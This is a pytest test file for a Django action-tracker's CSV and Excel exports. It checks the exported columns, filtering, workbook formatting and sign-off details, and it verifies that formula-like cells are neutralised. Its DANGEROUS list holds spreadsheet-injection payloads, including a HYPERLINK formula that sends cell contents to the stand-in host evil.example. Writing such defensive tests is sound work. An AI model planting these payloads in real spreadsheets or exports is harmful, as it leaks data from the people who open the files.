"""The action list's CSV and Excel exports: every filtered row with its columns, only my actions from
/actions/mine/, and no cell a spreadsheet would run as a formula."""

import datetime
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from tests import factories
from tests.action_lists import csv_rows, day, get_export, make_action, xlsx_rows
from tracker import services
from tracker.exports import HEADER
from tracker.models import ExtensionRequest, ProgressUpdate

SITE = "https://tracker.example.police.uk"
NOTE_AT = datetime.datetime(2026, 7, 4, 23, 30, tzinfo=datetime.UTC)  # already 5 July in London (BST)


@pytest.fixture(autouse=True)
def site_address(settings):
    settings.TRACKER_SITE_URL = SITE + "/"


@pytest.fixture
def export_plan(db, lead):
    """55 open actions (more than one page) and 3 signed off, one of them with history worth exporting."""
    theme = factories.ThemeFactory(name="Offender management")
    finding = factories.FindingFactory(
        reference="AFI5",
        theme=theme,
        text="The force should manage violent offenders.",
        inspection=factories.InspectionFactory(title="PEEL 2016"),
    )
    owner = factories.OwnerFactory(username="dci", first_name="Sam", last_name="Hughes")
    actions = factories.ActionFactory.create_batch(55, in_progress=True, due_date=day(30), finding=finding, owner=owner)
    factories.ActionFactory.create_batch(3, signed_off=True, due_date=day(-5), finding=finding, owner=owner)
    drifted = actions[0]
    drifted.original_due_date = day(-20)
    drifted.description = "Review every MAPPA case."
    drifted.save()
    ProgressUpdate.objects.create(
        action=drifted, author=owner, note="Older note.", created_at=NOTE_AT - datetime.timedelta(days=1)
    )
    ProgressUpdate.objects.create(action=drifted, author=owner, note="=Half the cases reviewed.", created_at=NOTE_AT)
    for _ in range(2):
        factories.ExtensionRequestFactory(
            action=drifted, status=ExtensionRequest.Status.APPROVED, decided_by=lead, decided_at=timezone.now()
        )
    factories.ExtensionRequestFactory(
        action=drifted, status=ExtensionRequest.Status.REFUSED, decided_by=lead, decided_at=timezone.now()
    )
    return {"drifted": drifted, "open_pks": {action.pk for action in actions}}


def test_csv_export_has_every_filtered_row_and_the_columns(signed_in, export_plan):
    response = signed_in.get("/actions/?status=in_progress&format=csv")
    rows = csv_rows(b"".join(response.streaming_content))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="actions-{day(0):%Y-%m-%d}.csv"'
    assert rows[0] == HEADER
    assert {int(row[0]) for row in rows[1:]} == export_plan["open_pks"]
    drifted = export_plan["drifted"]
    row = next(row for row in rows if row[0] == str(drifted.pk))
    assert row == [
        str(drifted.pk),
        "PEEL 2016",
        "AFI5",
        "Area for improvement",
        "The force should manage violent offenders.",
        "Offender management",
        drifted.title,
        "Review every MAPPA case.",
        "Sam Hughes",
        "In progress",
        "Green",
        day(30).isoformat(),
        day(-20).isoformat(),
        "2",
        "'=Half the cases reviewed.",  # CSV has no cell types: the apostrophe keeps it text
        "2026-07-05",
        "",
        "",
        f"{SITE}/actions/{drifted.pk}/",
    ]


def test_xlsx_export_has_every_filtered_row_and_the_columns(signed_in, export_plan):
    response = signed_in.get("/actions/?status=in_progress&format=xlsx")
    rows = xlsx_rows(response.content)

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == f'attachment; filename="actions-{day(0):%Y-%m-%d}.xlsx"'
    assert rows[0] == HEADER
    assert {row[0] for row in rows[1:]} == export_plan["open_pks"]
    drifted = export_plan["drifted"]
    row = next(row for row in rows if row[0] == drifted.pk)
    assert row[1:11] == ["PEEL 2016", "AFI5", "Area for improvement", "The force should manage violent offenders.",
                         "Offender management", drifted.title, "Review every MAPPA case.", "Sam Hughes",
                         "In progress", "Green"]  # fmt: skip
    assert [row[11].date(), row[12].date()] == [day(30), day(-20)]
    assert row[13:15] == [2, "=Half the cases reviewed."]
    assert row[15].date() == datetime.date(2026, 7, 5)
    assert row[16:] == [None, None, f"{SITE}/actions/{drifted.pk}/"]


def test_mine_exports_only_my_actions(client, export_plan, owner):
    make_action(title="Mine", owner=owner)
    client.force_login(owner)

    rows = csv_rows(get_export(client, "/actions/mine/?format=csv"))

    assert [row[6] for row in rows[1:]] == ["Mine"]


DANGEROUS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1", "-1", "@SUM(A1:A9)", "\tTabbed", "\rReturn"]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_exports_neutralise_formulas(signed_in, db, export_format):
    owner = factories.OwnerFactory(username="formula", first_name="=cmd", last_name="")
    finding = factories.FindingFactory(reference="-AFI1")
    for title in DANGEROUS:
        make_action(title=title, owner=owner, finding=finding)
    make_action(title="A plain title", owner=owner, finding=finding)

    content = get_export(signed_in, f"/actions/?format={export_format}")
    rows = csv_rows(content) if export_format == "csv" else xlsx_rows(content)

    # CSV has no cell types, so an apostrophe keeps the text text; a workbook's text cell is text already, and
    # shows no apostrophe (XML turns a carriage return into a line feed when the workbook is read back).
    mark = "'" if export_format == "csv" else ""
    expected = [f"{mark}{title}" if export_format == "csv" else title.replace("\r", "\n") for title in DANGEROUS]
    assert sorted(row[6] for row in rows[1:]) == sorted(["A plain title", *expected])
    assert {row[8] for row in rows[1:]} == {f"{mark}=cmd"}
    assert {row[2] for row in rows[1:]} == {f"{mark}-AFI1"}
    if export_format == "xlsx":
        sheet = load_workbook(io.BytesIO(content)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        titles = [row[6] for row in sheet.iter_rows(min_row=2)]
        assert {cell.data_type for cell in titles} == {"s"}
        assert {cell.value: cell.quotePrefix for cell in titles}["+1"] is True


def test_workbook_is_ready_to_use_bold_frozen_header_filters_uk_dates_and_links(signed_in, export_plan):
    drifted = export_plan["drifted"]

    content = get_export(signed_in, "/actions/?status=in_progress&format=xlsx")

    sheet = load_workbook(io.BytesIO(content)).active
    header = next(sheet.iter_rows(max_row=1))
    assert [cell.value for cell in header] == HEADER
    assert all(cell.font.b for cell in header)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:S{len(export_plan['open_pks']) + 1}"
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == drifted.pk)
    for column in ("Due date", "Original due date", "Latest progress note date"):
        cell = row[HEADER.index(column)]
        assert (cell.data_type, cell.number_format) == ("d", "DD/MM/YYYY"), column
    link = row[HEADER.index("Link")]
    assert link.hyperlink.target == link.value == f"{SITE}/actions/{drifted.pk}/"


def test_exports_say_when_and_by_whom_an_action_was_signed_off(signed_in, db, owner, reviewer):
    action = make_action(title="Done", owner=owner, status="in_progress")
    services.add_evidence(action, by=owner, title="Audit", url="https://intranet.example/audit")
    services.submit_for_sign_off(action, by=owner)
    services.return_action(action, by=reviewer, comment="More, please")
    services.submit_for_sign_off(action, by=owner)
    services.sign_off_action(action, by=reviewer)

    csv_row = csv_rows(get_export(signed_in, "/actions/?format=csv"))[1]
    xlsx_row = xlsx_rows(get_export(signed_in, "/actions/?format=xlsx"))[1]

    assert csv_row[16:18] == [timezone.localdate().isoformat(), str(reviewer)]
    assert xlsx_row[16].date() == timezone.localdate()
    assert xlsx_row[17] == str(reviewer)
